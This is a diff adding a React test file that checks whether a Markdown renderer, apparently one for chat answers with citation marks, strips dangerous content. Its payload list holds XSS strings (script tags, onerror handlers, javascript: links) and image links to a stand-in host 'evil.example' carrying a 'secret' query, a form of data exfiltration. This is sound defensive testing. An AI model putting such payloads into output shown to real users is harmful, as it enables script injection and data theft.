@@ -1,0 +1,135 @@
+import { cleanup, render, screen, waitFor } from "@testing-library/react";
+import { afterEach, describe, expect, it, vi } from "vitest";
+
+import { splitBlocks } from "./blocks.ts";
+import { Markdown } from "./Markdown.tsx";
+import { withDollarMath } from "./mathText.ts";
+
+const drawn = vi.fn();
+
+function TestMark({ marker }: { readonly marker: number }) {
+  drawn(marker);
+  return <button type="button">{`mark ${marker}`}</button>;
+}
+
+function draw(text: string): HTMLElement {
+  return render(<Markdown text={text} streaming={false} Mark={TestMark} />).container;
+}
+
+afterEach(cleanup);
+
+const PAYLOADS = [
+  "<script>alert(1)</script>",
+  '<img src=x onerror="alert(1)">',
+  "![x](https://evil.example/?q=secret)",
+  "![x][r]\n\n[r]: https://evil.example/p.png",
+  "[x](javascript:alert(1))",
+  "[x](data:text/html,hi)",
+  "[x](//evil.example)",
+  "[x]( java\nscript:alert(1))",
+  "<https://ok.example> <javascript:alert(1)> https://bare.example www.bare.example",
+  "[x](https://evil.example '\" onmouseover=alert(1)') [y][r]\n\n[r]: https://evil.example",
+  "[![x](https://evil.example/p.png)](https://evil.example)",
+  "note[^1]\n\n[^1]: [x](https://evil.example)",
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<a href="https://evil.example" onclick="alert(1)">x</a>',
+  "[1]: javascript:alert(1)\n\nclaim [1]",
+  '<iframe src="https://evil.example"></iframe>',
+  "$$\\href{javascript:alert(1)}{x}$$ $$\\includegraphics{https://evil.example/p.png}$$",
+  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+];
+
+function checkHarmless(container: HTMLElement): void {
+  const risky = "a,area,link,base,script,img,iframe,object,embed,form,style,video,audio,meta";
+  expect(container.querySelectorAll(risky)).toHaveLength(0);
+  for (const element of container.querySelectorAll("*")) {
+    expect(element.getAttributeNames().filter((name) => name.startsWith("on"))).toEqual([]);
+    expect(element.getAttribute("src")).toBeNull();
+    expect(element.getAttribute("href")).toBeNull();
+  }
+}
+
+describe("Markdown", () => {
+  it.each(PAYLOADS)("runs and loads nothing: %s", async (payload) => {
+    for (let end = 1; end <= payload.length; end += 1) {
+      const container = draw(`before ${payload.slice(0, end)}`);
+      checkHarmless(container);
+      cleanup();
+    }
+    const container = draw(`${payload}\n\nafter`);
+    await waitFor(() => {
+      expect(container.textContent).toContain("after");
+    });
+    checkHarmless(container);
+  });
+
+  it("draws marks in text, and leaves code, links and footnotes alone", () => {
+    const container = draw("a [1][2] `x[3]` [4](https://ok.example) **b [5]** [1234]");
+    const marks = screen.getAllByRole("button", { name: /^mark/ }).map((node) => node.textContent);
+    expect(marks).toEqual(["mark 1", "mark 2", "mark 5"]);
+    expect(container.querySelector("code")?.textContent).toBe("x[3]");
+    expect(container.querySelector(".md-link")?.textContent).toBe("4 (https://ok.example)");
+  });
+
+  it("keeps marks when the answer ends with definitions of them", () => {
+    const container = draw("claim [1]\n\n[1]: https://ok.example");
+    expect(screen.getAllByRole("button", { name: "mark 1" })).toHaveLength(2);
+    expect(container.querySelectorAll("a")).toHaveLength(0);
+  });
+
+  it.each([
+    ["[click](https://evil.example/a?b=c)", "click (https://evil.example/a?b=c)"],
+    ["[click](javascript:alert(1))", "click (javascript:alert(1))"],
+    ["<https://ok.example>", "https://ok.example"],
+    ["see www.ok.example now", "see www.ok.example now"],
+    ["<me@ok.example>", "me@ok.example"],
+    ["[https://bank.example](https://evil.example)", "https://bank.example (https://evil.example)"],
+  ])("spells out where a link leads: %s", (markdown, expected) => {
+    expect(draw(markdown).textContent).toBe(expected);
+  });
+
+  it("shows the words of a picture instead of the picture", () => {
+    expect(draw("![a chart](https://x.example/c.png)").textContent).toBe("a chart");
+  });
+
+  it("parses finished blocks once", () => {
+    const { rerender } = render(<Markdown text={"one [1]\n\ntwo"} streaming Mark={TestMark} />);
+    drawn.mockClear();
+    rerender(<Markdown text={"one [1]\n\ntwo three"} streaming Mark={TestMark} />);
+    rerender(<Markdown text={"one [1]\n\ntwo three four"} streaming Mark={TestMark} />);
+    expect(drawn).not.toHaveBeenCalled();
+  });
+
+  it("has the class streaming-cursor exactly while it grows", () => {
+    const { container, rerender } = render(<Markdown text="a" streaming Mark={TestMark} />);
+    expect(container.querySelector(".streaming-cursor")).not.toBeNull();
+    rerender(<Markdown text="a" streaming={false} Mark={TestMark} />);
+    expect(container.querySelector(".streaming-cursor")).toBeNull();
+  });
+});
+
+describe("splitBlocks", () => {
+  it.each([
+    ["one\n\ntwo", 2],
+    ["- a\n\n- b\n\n  more\n\nafter", 2],
+    ["```\na\n\nb\n```\n\nafter", 2],
+    ["~~~~\n```\n\n~~~\n\n~~~~\n\nafter", 2],
+    ["$$\na\n\nb\n$$\n\nafter", 2],
+    ["\\[\na\n\nb\n\\]\n\nafter", 2],
+    ["", 1],
+    ["```\nnever closed\n\nx", 1],
+  ])("cuts %j into %i and loses nothing", (text, pieces) => {
+    const blocks = splitBlocks(text);
+    expect(blocks).toHaveLength(pieces);
+    expect(blocks.join("\n")).toBe(text);
+  });
+});
+
+describe("withDollarMath", () => {
+  it("translates both ways of writing maths, outside code", () => {
+    expect(withDollarMath(String.raw`a \(x\) b`)).toBe("a $$x$$ b");
+    expect(withDollarMath(String.raw`\[ y \]`)).toBe("\n$$\ny\n$$\n");
+    expect(withDollarMath("`\\(x\\)`")).toBe("`\\(x\\)`");
+    expect(withDollarMath(String.raw`see \[1\]`)).toBe(String.raw`see \[1\]`);
+  });
+});
